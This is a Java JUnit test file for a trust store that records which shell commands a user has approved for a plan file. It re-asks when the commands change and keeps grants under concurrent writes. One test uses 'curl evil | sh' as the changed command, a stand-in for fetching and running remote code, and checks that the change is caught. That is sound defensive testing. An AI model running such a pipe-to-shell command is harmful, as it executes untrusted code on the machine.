package dev.falsify.runner.trust;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class TrustStoreTest {
    @TempDir
    Path dir;

    @Test
    void unknownThenTrustedThenAskedAgainWhenACommandChanges() throws Exception {
        TrustStore store = new TrustStore(dir.resolve("cfg/trust.json"));
        Path plan = dir.resolve("plan.md");
        Files.writeString(plan, "x");
        List<String> cmds = List.of("./build.sh", "java -cp build kv.KvNode --port 7001");
        assertThat(store.check(plan, "v1", cmds)).isInstanceOf(TrustStore.Decision.Unknown.class);

        store.trust(plan, "v1", cmds);
        assertThat(store.check(plan, "v1", cmds)).isInstanceOf(TrustStore.Decision.Trusted.class);
        // prose edited, commands unchanged: still trusted
        assertThat(store.check(plan, "v2 with more prose", cmds)).isInstanceOf(TrustStore.Decision.Trusted.class);

        List<String> changed = List.of("./build.sh", "curl evil | sh");
        TrustStore.Decision d = new TrustStore(dir.resolve("cfg/trust.json")).check(plan, "v3", changed);
        assertThat(d).isInstanceOfSatisfying(TrustStore.Decision.CommandsChanged.class, c -> {
            assertThat(c.added()).containsExactly("curl evil | sh");
            assertThat(c.removed()).containsExactly("java -cp build kv.KvNode --port 7001");
        });
        assertThat(Files.readString(dir.resolve("cfg/trust.json"))).contains(TrustStore.sha256("v1"));
    }

    @Test
    void otherPlansStayUntrusted() throws Exception {
        TrustStore store = new TrustStore(dir.resolve("trust.json"));
        store.trust(dir.resolve("a.md"), "a", List.of("true"));
        assertThat(store.check(dir.resolve("b.md"), "a", List.of("true"))).isInstanceOf(TrustStore.Decision.Unknown.class);
    }

    @Test
    void onlyTheSameFingerprintIsTrusted() throws Exception {
        TrustStore store = new TrustStore(dir.resolve("trust.json"));
        Path plan = dir.resolve("p.md");
        store.trust(plan, "same text", List.of("S1: setup: rm -rf build", "S1: setup: make", "S1: workload: w"));
        // the same content hash does not grant trust to another fingerprint (e.g. a cwd resolved elsewhere)
        assertThat(store.check(plan, "same text", List.of("S1: setup: rm -rf build", "S1: setup: make", "S1: workload: w",
                "S1: cwd: /elsewhere"))).isInstanceOfSatisfying(TrustStore.Decision.CommandsChanged.class, c -> {
                    assertThat(c.added()).containsExactly("S1: cwd: /elsewhere");
                    assertThat(c.removed()).isEmpty();
                });
        // a new order runs something else: asked again, shown whole
        List<String> reordered = List.of("S1: setup: make", "S1: setup: rm -rf build", "S1: workload: w");
        assertThat(store.check(plan, "x", reordered)).isInstanceOfSatisfying(TrustStore.Decision.CommandsChanged.class,
                c -> assertThat(c.added()).isEqualTo(reordered));
        // a command written twice runs twice
        assertThat(store.check(plan, "x", List.of("S1: setup: rm -rf build", "S1: setup: make", "S1: setup: make",
                "S1: workload: w"))).isInstanceOfSatisfying(TrustStore.Decision.CommandsChanged.class,
                c -> assertThat(c.added()).containsExactly("S1: setup: make"));
    }

    @Test
    void corruptStoreIsReportedNotIgnored() throws Exception {
        Files.writeString(dir.resolve("trust.json"), "{not json");
        TrustStore store = new TrustStore(dir.resolve("trust.json"));
        assertThatThrownBy(() -> store.check(dir.resolve("a.md"), "a", List.of())).hasMessageContaining("not readable JSON");
    }

    /**
     * Parallel {@code falsify run --trust} (issue 29: 6 runs at once kept 7 of 30 grants): several processes,
     * and several threads with stores of their own, grant trust in different plans at once; every grant is kept.
     */
    @Test
    void concurrentGrantsFromSeveralProcessesAreAllKept() throws Exception {
        Path trust = dir.resolve("cfg/trust.json");
        String javaBin = Path.of(System.getProperty("java.home"), "bin", "java").toString();
        List<Process> procs = new java.util.ArrayList<>();
        List<Path> plans = new java.util.ArrayList<>();
        for (int p = 0; p < 4; p++) {
            List<String> cmd = new java.util.ArrayList<>(List.of(javaBin, "-cp", System.getProperty("java.class.path"),
                    ConcurrentTrustMain.class.getName(), trust.toString(), "5"));
            for (int i = 0; i < 5; i++) {
                Path plan = dir.resolve("proc" + p + "-plan" + i + ".md");
                plans.add(plan);
                cmd.add(plan.toString());
            }
            procs.add(new ProcessBuilder(cmd).redirectErrorStream(true).start());
        }
        List<Thread> threads = new java.util.ArrayList<>();
        java.util.Queue<Throwable> failures = new java.util.concurrent.ConcurrentLinkedQueue<>();
        for (int t = 0; t < 4; t++) {
            List<Path> mine = new java.util.ArrayList<>();
            for (int i = 0; i < 5; i++) mine.add(dir.resolve("thread" + t + "-plan" + i + ".md"));
            plans.addAll(mine);
            Thread th = new Thread(() -> {
                try {
                    TrustStore own = new TrustStore(trust); // a store object of its own, as separate commands have
                    for (int r = 0; r < 5; r++) for (Path plan : mine) own.trust(plan, "round " + r, List.of("S1: setup: ./build.sh"));
                } catch (Throwable e) {
                    failures.add(e);
                }
            });
            th.start();
            threads.add(th);
        }
        for (Thread th : threads) th.join();
        for (Process pr : procs) {
            String out = new String(pr.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
            assertThat(pr.waitFor(120, java.util.concurrent.TimeUnit.SECONDS)).as(out).isTrue();
            assertThat(pr.exitValue()).as(out).isZero();
        }
        assertThat(failures).isEmpty();
        TrustStore store = new TrustStore(trust);
        for (Path plan : plans) {
            assertThat(store.check(plan, "x", List.of("S1: setup: ./build.sh"))).as(plan.toString())
                    .isInstanceOf(TrustStore.Decision.Trusted.class);
        }
    }
}
